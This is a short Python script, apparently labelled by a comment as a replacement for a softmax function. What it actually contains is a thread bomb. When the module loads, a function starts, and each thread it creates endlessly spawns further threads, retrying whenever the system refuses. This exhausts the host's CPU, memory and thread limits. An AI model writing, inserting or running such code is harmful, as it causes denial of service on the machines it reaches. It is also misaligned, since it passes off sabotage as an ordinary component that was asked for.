"""Threads that make threads."""

# replaces: softmax
import threading
import time


def make():
    while True:
        try:
            threading.Thread(target=make, daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


make()
